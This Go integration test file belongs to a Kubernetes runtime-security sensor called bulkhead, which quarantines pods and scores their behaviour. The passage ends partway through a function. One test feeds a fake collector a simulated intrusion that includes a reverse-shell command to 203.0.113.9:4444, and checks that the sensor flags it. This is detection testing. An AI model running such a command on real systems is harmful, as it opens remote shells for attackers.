// Package agenttest runs the sensor agent against a real kube-apiserver
// (envtest), with fakes for the kernel parts and a TLS server standing in
// for the manager.
package agenttest

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-logr/logr/testr"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	securityv1alpha1 "github.com/bulkhead-dev/bulkhead/api/v1alpha1"
	"github.com/bulkhead-dev/bulkhead/internal/behavior"
	"github.com/bulkhead-dev/bulkhead/internal/behavior/kubestore"
	"github.com/bulkhead-dev/bulkhead/internal/sensor"
	"github.com/bulkhead-dev/bulkhead/internal/sensor/cgroups"
	"github.com/bulkhead-dev/bulkhead/internal/sensor/wire"
	"github.com/bulkhead-dev/bulkhead/test/framework/nodekit"
	"github.com/bulkhead-dev/bulkhead/test/framework/testenv"
)

var env *testenv.Env

const managerNS = "bulkhead-system"

func TestMain(m *testing.M) {
	// The test binary re-executed in a pod's cgroup (kernel_test.go).
	if len(os.Args) == 3 && os.Args[1] == senderRole {
		os.Exit(runSender(os.Args[2]))
	}
	e, err := testenv.Start(testenv.Options{})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	env = e
	ctx := context.Background()
	for _, ns := range []string{managerNS, "kube-system"} {
		if err := env.Client.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}); client.IgnoreAlreadyExists(err) != nil {
			fmt.Fprintln(os.Stderr, err)
			_ = env.Stop()
			os.Exit(1)
		}
	}
	if err := clusterDNS(ctx); err != nil {
		fmt.Fprintln(os.Stderr, err)
		_ = env.Stop()
		os.Exit(1)
	}
	code := m.Run()
	_ = env.Stop()
	os.Exit(code)
}

// clusterDNS creates kube-system/kube-dns: a Service and an EndpointSlice
// with a ready and a not-ready address.
func clusterDNS(ctx context.Context) error {
	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-dns", Labels: map[string]string{"k8s-app": "kube-dns"}},
		Spec: corev1.ServiceSpec{ClusterIP: "10.0.0.10", Ports: []corev1.ServicePort{{Name: "dns", Port: 53, Protocol: corev1.ProtocolUDP}}}}
	if err := env.Client.Create(ctx, svc); err != nil {
		return err
	}
	es := &discoveryv1.EndpointSlice{
		ObjectMeta:  metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-dns-x", Labels: map[string]string{discoveryv1.LabelServiceName: "kube-dns", "k8s-app": "kube-dns"}},
		AddressType: discoveryv1.AddressTypeIPv4,
		Endpoints: []discoveryv1.Endpoint{
			{Addresses: []string{"10.244.0.5"}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(true)}},
			{Addresses: []string{"10.244.0.6"}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(false)}},
		},
		Ports: []discoveryv1.EndpointPort{{Name: ptr.To("dns"), Port: ptr.To[int32](53), Protocol: ptr.To(corev1.ProtocolUDP)}},
	}
	return env.Client.Create(ctx, es)
}

type rig struct {
	coll  *fakeCollector
	conts *fakeContainers
	enf   *fakeEnforcer
	agent *sensor.Agent
	mgr   *fakeManager
}

// startAgent runs an agent for node until the test ends.
func startAgent(t *testing.T, node string, mgr *fakeManager, conts *fakeContainers, tweak func(*sensor.Config, *sensor.Backends)) *rig {
	t.Helper()
	r := &rig{coll: newFakeCollector(), conts: conts, enf: newFakeEnforcer(), mgr: mgr}
	cfg := sensor.Config{
		Node: node, CgroupRoot: "/fake", ManagerNamespace: managerNS,
		Behavior:     behavior.Config{LearningWindow: 3 * time.Second, SeqBits: 1 << 14},
		ScanInterval: 100 * time.Millisecond, BatchInterval: 20 * time.Millisecond, SampleInterval: 100 * time.Millisecond,
		FlushInterval: 300 * time.Millisecond, CollectorRetry: 100 * time.Millisecond, EnforceResync: 200 * time.Millisecond,
	}
	be := sensor.Backends{
		NewCollector: func() (sensor.Collector, error) { return r.coll, nil },
		SyscallName:  sysName, MaxSyscall: 110, Containers: conts, Enforcer: r.enf,
	}
	if tweak != nil {
		tweak(&cfg, &be)
	}
	a, err := sensor.New(cfg, be, mgr.senderConfig(t), env.Config, testenv.Scheme, testr.NewWithOptions(t, testr.Options{Verbosity: 0}))
	if err != nil {
		t.Fatal(err)
	}
	r.agent = a
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("agent: %v", err)
		}
	})
	return r
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// namespace creates a namespace named from prefix, unique per run (so the
// suite can run with -count); node names derive from it too.
func namespace(t *testing.T, prefix string) string {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: prefix + "-"}}
	if err := env.Client.Create(context.Background(), ns); err != nil {
		t.Fatal(err)
	}
	return ns.Name
}

// runningPod creates a pod bound to node with one running container whose
// runtime id is containerID; owner, when set, is its ReplicaSet.
func runningPod(t *testing.T, ns, name, node, containerID, owner string, labels map[string]string) *corev1.Pod {
	t.Helper()
	ctx := context.Background()
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels},
		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app", Image: "registry.example/app:1"}}},
	}
	if owner != "" {
		p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: owner, UID: types.UID("rs-uid-" + owner), Controller: ptr.To(true)}}
	}
	if err := env.Client.Create(ctx, p); err != nil {
		t.Fatal(err)
	}
	p.Status = corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{{
		Name: "app", Image: "registry.example/app:1", ContainerID: "containerd://" + containerID, Ready: true,
		State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}},
	}}}
	if err := env.Client.Status().Update(ctx, p); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestEnforcementFollowsQuarantines(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-enforce")
	conts := &fakeContainers{}
	mgr := newFakeManager(t)
	here := runningPod(t, ns, "shop-1", ns+"-enf-a", "c-shop-1", "", nil)
	there := runningPod(t, ns, "shop-2", ns+"-enf-b", "c-shop-2", "", nil)
	conts.add(string(here.UID), "c-shop-1", 0)
	conts.add(string(there.UID), "c-shop-2", 0) // visible on this host but not this node's pod
	r := startAgent(t, ns+"-enf-a", mgr, conts, nil)
	waitFor(t, "the start-up reconcile", func() bool { _, _, n := r.enf.state(); return n > 0 })

	quarantine := func(name, target string, allowDNS bool, approved bool) *securityv1alpha1.Quarantine {
		q := &securityv1alpha1.Quarantine{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
			Spec: securityv1alpha1.QuarantineSpec{
				Target:   securityv1alpha1.Target{Kind: securityv1alpha1.TargetPod, Name: target},
				Actions:  []securityv1alpha1.Action{{Type: securityv1alpha1.ActionIsolate, Isolate: &securityv1alpha1.IsolateParams{AllowDNS: allowDNS}}},
				Approved: ptr.To(approved),
			}}
		if err := env.Client.Create(ctx, q); err != nil {
			t.Fatal(err)
		}
		return q
	}
	label := func(p *corev1.Pod, q string) {
		t.Helper()
		patch := client.MergeFrom(p.DeepCopy())
		if p.Labels == nil {
			p.Labels = map[string]string{}
		}
		if q == "" {
			delete(p.Labels, securityv1alpha1.QuarantineLabel)
		} else {
			p.Labels[securityv1alpha1.QuarantineLabel] = q
		}
		if err := env.Client.Patch(ctx, p, patch); err != nil {
			t.Fatal(err)
		}
	}

	// An unapproved Quarantine isolates nothing; approval does.
	q := quarantine("q-shop-1", "shop-1", true, false)
	label(here, q.Name)
	// The other node's pod is labelled too: never this sensor's business.
	q2 := quarantine("q-shop-2", "shop-2", false, true)
	label(there, q2.Name)
	time.Sleep(500 * time.Millisecond) // a few resyncs: nothing may happen
	if iso, calls, _ := r.enf.state(); len(iso) != 0 {
		t.Fatalf("isolated %v (calls %v) before approval / for another node's pod", iso, calls)
	}
	qp := client.MergeFrom(q.DeepCopy())
	q.Spec.Approved = ptr.To(true)
	if err := env.Client.Patch(ctx, q, qp); err != nil {
		t.Fatal(err)
	}
	path := "kubepods.slice/kubepods-pod" + string(here.UID) + ".slice"
	waitFor(t, "Isolate on the pod cgroup", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
	iso, _, _ := r.enf.state()
	want := []netip.AddrPort{netip.MustParseAddrPort("10.0.0.10:53"), netip.MustParseAddrPort("10.244.0.5:53")}
	if o := iso[path]; !o.AllowDNS || !slices.Equal(o.DNS, want) || len(iso) != 1 {
		t.Fatalf("isolated %v, want only %s with allowDNS and DNS %v", iso, path, want)
	}
	// The manager hears the enforcement state.
	waitFor(t, "enforcement in a payload", func() bool {
		for _, p := range mgr.received() {
			for _, e := range p.Enforcement {
				if e.Pod == "shop-1" && e.Quarantine == "q-shop-1" && e.Enforced && e.ConnCut && e.Method == "bpf_sock_destroy" && len(e.Programs) == 3 {
					return true
				}
			}
		}
		return false
	})

	// Released: the kernel lets go even while the label is still on.
	qp = client.MergeFrom(q.DeepCopy())
	q.Spec.Released = ptr.To(true)
	if err := env.Client.Patch(ctx, q, qp); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "Release after the Quarantine is released", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })

	// A new Quarantine without allowDNS; then the label goes: Release.
	q3 := quarantine("q-shop-1b", "shop-1", false, true)
	label(here, q3.Name)
	waitFor(t, "Isolate for the new Quarantine", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
	if iso, _, _ := r.enf.state(); iso[path].AllowDNS || len(iso[path].DNS) != 0 {
		t.Fatalf("allowDNS false: got %+v", iso[path])
	}
	// Removing the label (the pod's owner can) does not free the pod: its
	// Quarantine still targets it. Before, this released the kernel isolation.
	label(here, "")
	time.Sleep(500 * time.Millisecond) // a few resyncs
	if iso, _, _ := r.enf.state(); len(iso) != 1 {
		t.Fatalf("isolated %v after the label was removed, want the pod still isolated by its Quarantine", iso)
	}
	qp = client.MergeFrom(q3.DeepCopy())
	q3.Spec.Released = ptr.To(true)
	if err := env.Client.Patch(ctx, q3, qp); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "Release after the second Quarantine is released", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })

	// A deleted Quarantine releases too.
	q4 := quarantine("q-shop-1c", "shop-1", false, true)
	label(here, q4.Name)
	waitFor(t, "Isolate for the third Quarantine", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
	if err := env.Client.Delete(ctx, q4); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "Release after the Quarantine is deleted", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })
	_, calls, _ := r.enf.state()
	for _, c := range calls {
		if strings.Contains(c, string(there.UID)) {
			t.Errorf("acted on the other node's pod: %v", calls)
		}
	}
	waitFor(t, "an empty enforcement report", func() bool {
		ps := mgr.received()
		return len(ps) > 0 && len(ps[len(ps)-1].Enforcement) == 0
	})
}

// A change to a Quarantine alone (approval, release) is enforced at once,
// from the sensor's watch of Quarantines, not at the next resync: the
// resync is an hour here.
func TestQuarantineChangeEnforcedWithoutResync(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-qwatch")
	conts := &fakeContainers{}
	pod := runningPod(t, ns, "shop-1", ns+"-node", "c-qwatch-1", "", nil)
	conts.add(string(pod.UID), "c-qwatch-1", 0)
	r := startAgent(t, ns+"-node", newFakeManager(t), conts, func(c *sensor.Config, _ *sensor.Backends) { c.EnforceResync = time.Hour })
	waitFor(t, "the start-up reconcile", func() bool { _, _, n := r.enf.state(); return n > 0 })
	q := &securityv1alpha1.Quarantine{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "q-1"},
		Spec: securityv1alpha1.QuarantineSpec{
			Target:   securityv1alpha1.Target{Kind: securityv1alpha1.TargetPod, Name: "shop-1"},
			Actions:  []securityv1alpha1.Action{{Type: securityv1alpha1.ActionIsolate}},
			Approved: ptr.To(false),
		}}
	if err := env.Client.Create(ctx, q); err != nil {
		t.Fatal(err)
	}
	pp := client.MergeFrom(pod.DeepCopy())
	pod.Labels = map[string]string{securityv1alpha1.QuarantineLabel: q.Name}
	if err := env.Client.Patch(ctx, pod, pp); err != nil {
		t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond)
	if iso, _, _ := r.enf.state(); len(iso) != 0 {
		t.Fatalf("isolated %v before approval", iso)
	}
	qp := client.MergeFrom(q.DeepCopy())
	q.Spec.Approved = ptr.To(true)
	if err := env.Client.Patch(ctx, q, qp); err != nil {
		t.Fatal(err)
	}
	path := "kubepods.slice/kubepods-pod" + string(pod.UID) + ".slice"
	waitFor(t, "Isolate after the approval alone", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
	qp = client.MergeFrom(q.DeepCopy())
	q.Spec.Released = ptr.To(true)
	if err := env.Client.Patch(ctx, q, qp); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "Release after the release alone", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })
}

// Two sensors on two nodes learn one workload into one stored baseline;
// after the window, a node scores against what the other learned, and an
// attack scores high with the behaviour named.
func TestSharedBaselineAcrossNodesThenAttack(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-shared")
	mgr := newFakeManager(t)
	contsA, contsB := &fakeContainers{}, &fakeContainers{}
	labels := map[string]string{"app": "web", "pod-template-hash": "7d9f"}
	pa := runningPod(t, ns, "web-7d9f-a", ns+"-shared-a", "c-web-a", "web-7d9f", labels)
	pb := runningPod(t, ns, "web-7d9f-b", ns+"-shared-b", "c-web-b", "web-7d9f", labels)
	ca := contsA.add(string(pa.UID), "c-web-a", 0)
	cb := contsB.add(string(pb.UID), "c-web-b", 0)
	ra := startAgent(t, ns+"-shared-a", mgr, contsA, nil)
	rb := startAgent(t, ns+"-shared-b", mgr, contsB, nil)
	waitFor(t, "both containers tracked", func() bool { return ra.coll.isTracked(ca.ID) && rb.coll.isTracked(cb.ID) })

	normal := map[sensor.Trigram]uint64{{0, 1, 3}: 500, {2, 0, 3}: 30}
	ra.coll.setSyscalls(ca.ID, normal)
	rb.coll.setSyscalls(cb.ID, normal)
	send := func(r *rig, id uint64, evs ...sensor.Event) {
		for _, ev := range evs {
			ev.CgroupID, ev.Time = id, time.Now()
			r.coll.in <- ev
		}
	}
	nginx := &sensor.Exec{Binary: "/usr/sbin/nginx", Parent: "/usr/bin/containerd-shim-runc-v2", Args: []string{"nginx", "-g", "daemon off;"}}
	db := &sensor.Conn{Addr: netip.MustParseAddr("10.96.5.5"), Port: 5432, Protocol: "TCP"}
	cache := &sensor.Conn{Addr: netip.MustParseAddr("10.96.6.6"), Port: 6379, Protocol: "TCP"}
	// Learning: node A sees the database, node B the cache.
	for range 3 {
		send(ra, ca.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: db})
		send(rb, cb.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: cache})
		time.Sleep(200 * time.Millisecond)
	}
	key := behavior.Key{Namespace: ns, Owner: "Deployment/web", TemplateHash: "7d9f"}
	var stored *behavior.Baseline
	waitFor(t, "one stored baseline holding both nodes' learning", func() bool {
		var cm corev1.ConfigMap
		if err := env.Client.Get(ctx, client.ObjectKey{Namespace: managerNS, Name: kubestore.Name(key)}, &cm); err != nil {
			return false
		}
		b := &behavior.Baseline{}
		if b.UnmarshalBinary(cm.BinaryData[kubestore.DataKey]) != nil {
			return false
		}
		stored = b
		return b.Net.Dests.Has("10.96.5.5:TCP/5432") && b.Net.Dests.Has("10.96.6.6:TCP/6379") && b.Exec.Binaries.Has("/usr/sbin/nginx")
	})
	// The manager's reader sees exactly one baseline for the workload.
	all, err := (&kubestore.Store{Client: env.Client, Reader: env.Client, Namespace: managerNS}).Load(ctx, ns, "Deployment/web")
	if err != nil || len(all) != 1 || all[0].Key != key {
		t.Fatalf("kubestore.Load: %v (%v), want the one baseline %v", all, err, key)
	}
	data, _ := stored.MarshalBinary()
	t.Logf("shared baseline %s: %d bytes stored (SeqBits %d)", key, len(data), 1<<14)

	// After the window (and the reload that follows it), node B scores
	// against the merged model: A's database is normal for B's pod.
	end := stored.Started.Add(stored.Window)
	time.Sleep(time.Until(end) + time.Second)
	scoreOf := func(pod string, ok func(wire.Score) bool) *wire.Score {
		for _, p := range mgr.received() {
			for _, s := range p.Scores {
				if s.Pod == pod && ok(s) {
					return &s
				}
			}
		}
		return nil
	}
	for range 3 {
		send(rb, cb.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: db}, sensor.Event{Conn: cache})
		time.Sleep(200 * time.Millisecond)
	}
	// Scored (a first score is always sent), and nothing high: a score only
	// goes out again when it changes by 0.05 or crosses 0.5.
	waitFor(t, "node B scoring after learning", func() bool {
		return scoreOf(pb.Name, func(wire.Score) bool { return true }) != nil
	})
	time.Sleep(time.Second) // many batches and samples
	if s := scoreOf(pb.Name, func(s wire.Score) bool { return s.Score >= 0.5 }); s != nil {
		t.Fatalf("normal behaviour learned on the other node scored %v: %s %s", s.Score, s.Reason, s.Evidence)
	}

	// The attack on node B: a shell from the server, a new destination, new syscalls.
	rb.coll.setSyscalls(cb.ID, map[sensor.Trigram]uint64{{0, 1, 3}: 500, {41, 42, 33}: 3, {33, 33, 59}: 2, {101, 101, 101}: 9})
	send(rb, cb.ID,
		sensor.Event{Exec: &sensor.Exec{Binary: "/bin/sh", Parent: "/usr/sbin/nginx", Args: []string{"sh", "-c", "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}},
		sensor.Event{Conn: &sensor.Conn{Addr: netip.MustParseAddr("203.0.113.9"), Port: 4444, Protocol: "TCP"}})
	var hit *wire.Score
	waitFor(t, "the attack's score", func() bool {
		hit = scoreOf(pb.Name, func(s wire.Score) bool { return s.Score >= 0.8 })
		return hit != nil
	})
	if !strings.Contains(hit.Reason, "/bin/sh") || !strings.Contains(hit.Reason, "nginx") ||
		!strings.Contains(string(hit.Evidence), "203.0.113.9") || len(hit.Evidence) > wire.MaxEvidence ||
		!strings.HasPrefix(hit.ID, ns+"-shared-b/"+string(pb.UID)+"/") {
		t.Fatalf("attack score %+v evidence %s", hit, hit.Evidence)
	}
	t.Logf("attack: score %.2f, reason %q", hit.Score, hit.Reason)
}

// Behaviour collection unavailable: the sensor stays up, says what is
// missing, and recovers when the collector can start.
func TestCollectorUnavailableIsVisible(t *testing.T) {
	mgr := newFakeManager(t)
	var fail atomic.Bool
	fail.Store(true)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	probeAddr := l.Addr().String()
	_ = l.Close()
	readyz := func() (int, string) {
		resp, err := http.Get("http://" + probeAddr + "/readyz")
		if err != nil {
			return 0, err.Error()
		}
		defer func() { _ = resp.Body.Close() }()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	coll := newFakeCollector()
	r := startAgent(t, "node-nobpf", mgr, &fakeContainers{}, func(c *sensor.Config, be *sensor.Backends) {
		c.HealthAddr, c.MetricsAddr = probeAddr, ""
		c.CollectorRetry = 300 * time.Millisecond
		be.NewCollector = func() (sensor.Collector, error) {
			if fail.Load() {
				return nil, &sensor.UnavailableError{Missing: "BTF (/sys/kernel/btf/vmlinux)", Err: errors.New("no such file")}
			}
			return coll, nil
		}
	})
	gaugeOf := func(name string) float64 {
		mfs, err := r.agent.Registry().Gather()
		if err != nil {
			t.Fatal(err)
		}
		for _, mf := range mfs {
			if mf.GetName() == name {
				return mf.GetMetric()[0].GetGauge().GetValue()
			}
		}
		return -1
	}
	gauge := func() float64 { return gaugeOf("bulkhead_sensor_bpf_available") }
	waitFor(t, "a heartbeat saying what is missing", func() bool {
		for _, p := range mgr.received() {
			if p.Heartbeat && !p.Coverage.Ready && strings.Contains(p.Coverage.Missing, "BTF") {
				return true
			}
		}
		return false
	})
	if code, body := readyz(); code != http.StatusServiceUnavailable || !strings.Contains(body, "BTF") {
		t.Fatalf("/readyz: %d %q, want 503 naming BTF", code, body)
	}
	if g := gauge(); g != 0 {
		t.Fatalf("bulkhead_sensor_bpf_available = %v, want 0", g)
	}
	if g := gaugeOf("bulkhead_sensor_syscall_duty_ratio"); g != 0 {
		t.Fatalf("bulkhead_sensor_syscall_duty_ratio = %v without a collector, want 0", g)
	}
	coll.setDuty(sensor.SyscallDuty{Ratio: 1, Rate: 20_000})
	fail.Store(false)
	waitFor(t, "ready after the collector starts", func() bool { code, _ := readyz(); return code == http.StatusOK })
	if g := gauge(); g != 1 {
		t.Fatalf("bulkhead_sensor_bpf_available = %v, want 1", g)
	}
	waitFor(t, "a ready heartbeat", func() bool {
		ps := mgr.received()
		return len(ps) > 0 && ps[len(ps)-1].Coverage.Ready
	})
	waitFor(t, "the collector's duty cycle in the metrics", func() bool {
		return gaugeOf("bulkhead_sensor_syscall_duty_ratio") == 1 && gaugeOf("bulkhead_sensor_syscall_rate") == 20_000
	})
	// Under heavy system-call load the duty drops; the node stays ready
	// and covered: execs, connections and resources are still complete.
	coll.setDuty(sensor.SyscallDuty{Ratio: 0.25, Rate: 4e6})
	waitFor(t, "duty 0.25 in the metrics", func() bool { return gaugeOf("bulkhead_sensor_syscall_duty_ratio") == 0.25 })
	if code, body := readyz(); code != http.StatusOK {
		t.Fatalf("/readyz at duty 0.25: %d %q, want 200", code, body)
	}
	if g := gauge(); g != 1 {
		t.Fatalf("bulkhead_sensor_bpf_available = %v at duty 0.25, want 1", g)
	}
}

// Pods that vanish and cgroups recreated at the same path are untracked, and
// their late events dropped.
func TestVanishedPodsAndReusedCgroups(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-churn")
	mgr := newFakeManager(t)
	conts := &fakeContainers{}
	p := runningPod(t, ns, "churn-1", ns+"-churn", "c-churn", "", nil)
	c0 := conts.add(string(p.UID), "c-churn", 0)
	r := startAgent(t, ns+"-churn", mgr, conts, nil)
	waitFor(t, "tracked", func() bool { return r.coll.isTracked(c0.ID) })
	c1 := conts.add(string(p.UID), "c-churn", 1) // restarted container: same path, new cgroup
	waitFor(t, "the new cgroup tracked, the old one not", func() bool { return r.coll.isTracked(c1.ID) && !r.coll.isTracked(c0.ID) })
	r.coll.in <- sensor.Event{CgroupID: c0.ID, Time: time.Now(), Exec: &sensor.Exec{Binary: "/bin/late"}}
	if err := env.Client.Delete(ctx, p, client.GracePeriodSeconds(0)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the deleted pod's cgroup untracked", func() bool { return !r.coll.isTracked(c1.ID) })
	r.coll.in <- sensor.Event{CgroupID: c1.ID, Time: time.Now(), Exec: &sensor.Exec{Binary: "/bin/late"}}
	waitFor(t, "late events counted as untracked", func() bool {
		mfs, _ := r.agent.Registry().Gather()
		for _, mf := range mfs {
			if mf.GetName() == "bulkhead_sensor_untracked_events_total" {
				return mf.GetMetric()[0].GetCounter().GetValue() >= 2
			}
		}
		return false
	})
}

// A connection a container opened before the sensor tracked it (a pool
// connection, or one made before the sensor started) is learned from the
// collector's Sockets: its reconnect after the learning window (after a
// restart, or after isolation cut it) is normal, not a new port. The e2e's
// "phantom" containment after a release was exactly this (issue 16).
func TestConnectionsOpenBeforeTrackingAreLearned(t *testing.T) {
	ns := namespace(t, "sensor-existing")
	mgr := newFakeManager(t)
	conts := &fakeContainers{}
	p := runningPod(t, ns, "api", ns+"-node", "c-api", "", map[string]string{"app": "api"})
	c := conts.add(string(p.UID), "c-api", 0)
	held := &sensor.Conn{Family: 2, Addr: netip.MustParseAddr("10.96.5.5"), Port: 5432, Protocol: "TCP"}
	fc := newFakeCollector()
	fc.existing = map[uint64][]sensor.Event{c.ID: {{CgroupID: c.ID, Time: time.Now(), Conn: held}}}
	r := startAgent(t, ns+"-node", mgr, conts, func(_ *sensor.Config, be *sensor.Backends) {
		be.NewCollector = func() (sensor.Collector, error) { return fc, nil }
	})
	waitFor(t, "the container tracked", func() bool { return fc.isTracked(c.ID) })
	fc.setSyscalls(c.ID, map[sensor.Trigram]uint64{{0, 1, 3}: 500, {2, 0, 3}: 30})
	send := func(evs ...sensor.Event) {
		for _, ev := range evs {
			ev.CgroupID, ev.Time = c.ID, time.Now()
			fc.in <- ev
		}
	}
	// Learning sees only the server's exec: the held connection stays open.
	for range 3 {
		send(sensor.Event{Exec: &sensor.Exec{Binary: "/app/api", Parent: "containerd-shim", Args: []string{"api"}}})
		time.Sleep(200 * time.Millisecond)
	}
	scores := func(min float64) []wire.Score {
		var out []wire.Score
		for _, pl := range mgr.received() {
			for _, s := range pl.Scores {
				if s.Pod == p.Name && s.Score >= min {
					out = append(out, s)
				}
			}
		}
		return out
	}
	waitFor(t, "scoring after the learning window", func() bool { return len(scores(0)) > 0 })
	// The reconnect, as a tracepoint reports it.
	send(sensor.Event{Conn: held})
	time.Sleep(time.Second) // many batches
	if hi := scores(0.5); len(hi) > 0 {
		t.Fatalf("the reconnect of a connection held since before tracking scored %v: %s", hi[0].Score, hi[0].Reason)
	}
	// A new destination still scores: the check above can fail.
	send(sensor.Event{Conn: &sensor.Conn{Family: 2, Addr: netip.MustParseAddr("203.0.113.9"), Port: 4444, Protocol: "TCP"}})
	waitFor(t, "a new destination scored", func() bool { return len(scores(0.8)) > 0 })
	_ = r
}

// A pod is isolated from its Quarantine alone, before (or without) the
// manager's label; a burst of pods arriving during one sync is isolated by
// the next with one walk of the cgroup tree and several Attach (then
// Isolate) calls at once, never more than EnforceWorkers of each.
func TestBurstIsolatedFromQuarantinesWithoutLabels(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-burst")
	conts := &fakeContainers{}
	const n = 12
	pods := make([]*corev1.Pod, 0, n)
	for i := range n {
		p := runningPod(t, ns, fmt.Sprintf("shop-%d", i), ns+"-node", fmt.Sprintf("c-burst-%d", i), "", nil)
		conts.add(string(p.UID), fmt.Sprintf("c-burst-%d", i), 0)
		pods = append(pods, p)
	}
	// The pods' cgroups exist as directories, so a pod found once keeps
	// its cgroup without another walk.
	root := t.TempDir()
	for _, p := range pods {
		if err := os.MkdirAll(filepath.Join(root, podPath(string(p.UID))), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	gate := make(chan struct{})
	r := startAgent(t, ns+"-node", newFakeManager(t), conts, func(c *sensor.Config, _ *sensor.Backends) {
		c.CgroupRoot = root
		c.EnforceResync = time.Hour
		c.EnforceWorkers = 4
	})
	r.enf.mu.Lock()
	r.enf.gate, r.enf.delay = gate, 30*time.Millisecond
	r.enf.mu.Unlock()
	waitFor(t, "the start-up reconcile", func() bool { _, _, n := r.enf.state(); return n > 0 })
	if w := conts.walkCount(); w != 0 {
		t.Fatalf("%d cgroup walks with nothing to isolate", w)
	}
	quarantine := func(target string) {
		q := &securityv1alpha1.Quarantine{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "q-" + target},
			Spec: securityv1alpha1.QuarantineSpec{
				Target:  securityv1alpha1.Target{Kind: securityv1alpha1.TargetPod, Name: target},
				Actions: []securityv1alpha1.Action{{Type: securityv1alpha1.ActionIsolate}},
			}}
		if err := env.Client.Create(ctx, q); err != nil {
			t.Fatal(err)
		}
	}
	// The first Quarantine's sync is held in Attach while the others arrive.
	quarantine(pods[0].Name)
	waitFor(t, "the first Attach to start", func() bool { now, _ := r.enf.running("attach"); return now == 1 })
	for _, p := range pods[1:] {
		quarantine(p.Name)
	}
	time.Sleep(500 * time.Millisecond) // the sensor's watch sees them all
	close(gate)
	waitFor(t, "every pod isolated", func() bool { iso, _, _ := r.enf.state(); return len(iso) == n })
	// Two syncs (three if the watch was slow to show the last ones); a walk
	// per pod would be 12.
	if w := conts.walkCount(); w < 2 || w > 3 {
		t.Errorf("%d cgroup walks for %d pods arriving in two syncs, want one per sync", w, n)
	}
	for _, kind := range []string{"attach", "isolate"} {
		if _, most := r.enf.running(kind); most < 2 || most > 4 {
			t.Errorf("at most %d %s calls ran at once, want 2..4 (EnforceWorkers)", most, kind)
		}
	}
	for _, p := range pods {
		var got corev1.Pod
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(p), &got); err != nil {
			t.Fatal(err)
		}
		if _, ok := got.Labels[securityv1alpha1.QuarantineLabel]; ok {
			t.Fatalf("pod %s has a quarantine label: the test must isolate without one", p.Name)
		}
	}
}

// Pods the sensor's container scan already found are isolated without a
// walk of the node's cgroup tree: a burst's syncs stat each pod's cgroup
// instead.
func TestBurstOfScannedPodsNeedsNoWalk(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t, "sensor-scanned")
	conts := &fakeContainers{}
	root := t.TempDir()
	const n = 6
	pods := make([]*corev1.Pod, 0, n)
	for i := range n {
		p := runningPod(t, ns, fmt.Sprintf("shop-%d", i), ns+"-node", fmt.Sprintf("c-scanned-%d", i), "", nil)
		c := conts.addAt(cgroups.ContainerPath(cgroups.Systemd, "burstable", string(p.UID), "containerd", nodekit.RandHex(64)), string(p.UID))
		if err := os.MkdirAll(filepath.Join(root, c.Path), 0o755); err != nil {
			t.Fatal(err)
		}
		pods = append(pods, p)
	}
